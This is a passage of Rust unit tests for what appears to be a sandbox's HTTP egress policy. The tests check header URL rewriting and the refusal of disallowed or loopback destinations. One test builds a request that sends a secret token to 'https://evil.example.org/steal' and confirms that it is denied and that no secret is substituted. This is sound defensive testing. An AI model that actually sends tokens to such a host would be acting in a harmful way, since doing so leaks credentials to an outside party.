            r#"<http://127.0.0.1:5555/items?page=2>; rel="next""#.parse().unwrap(),
        );
        headers.append(http::header::LINK, r#"</items?page=1>; rel="first""#.parse().unwrap());
        headers.insert("x-other", "http://127.0.0.1:5555/kept".parse().unwrap());
        declared_origin_links(&policy, &mut headers);
        assert_eq!(headers[http::header::LOCATION], "https://api.example.com/v1/me");
        let links: Vec<&str> = headers
            .get_all(http::header::LINK)
            .iter()
            .map(|v| v.to_str().unwrap())
            .collect();
        assert_eq!(
            links,
            [
                r#"<https://api.example.com/items?page=2>; rel="next""#,
                r#"</items?page=1>; rel="first""#
            ]
        );
        assert_eq!(
            headers["x-other"], "http://127.0.0.1:5555/kept",
            "only URL headers are mapped"
        );
    }

    #[tokio::test]
    async fn a_refused_request_is_summarised_with_the_policy_reason_and_sends_nothing() {
        let mut h = hooks(EgressConfig::default());
        let token = h.secrets.placeholder("token");
        let err = send(&mut h, request("https://evil.example.org/steal", &token, ""))
            .await
            .unwrap_err();
        assert!(matches!(err, HttpError::HttpRequestDenied), "{err}");
        // Allowed, but it resolves to loopback and nothing rewrote it.
        let mut h2 = HttpHooks {
            policy: EgressPolicy::new(Allowlist::parse(["http://127.0.0.1:9"]), Arc::default()),
            ..h
        };
        let err = send(&mut h2, request("http://127.0.0.1:9/", &token, ""))
            .await
            .unwrap_err();
        assert!(matches!(err, HttpError::DestinationIpProhibited), "{err}");
        let usage = HttpState {
            ctx: WasiHttpCtx::new(),
            hooks: h2,
        }
        .take_usage();
        let reasons: Vec<_> = usage.requests.iter().map(|r| r.refused.as_deref()).collect();
        assert_eq!(reasons, [Some("origin_not_allowed"), Some("address_blocked")]);
        assert!(
            !usage.requests[0].secret_used,
            "nothing is substituted for a refused origin"
        );
        assert_eq!(usage.requests[0].origin, "https://evil.example.org:443");
    }
}
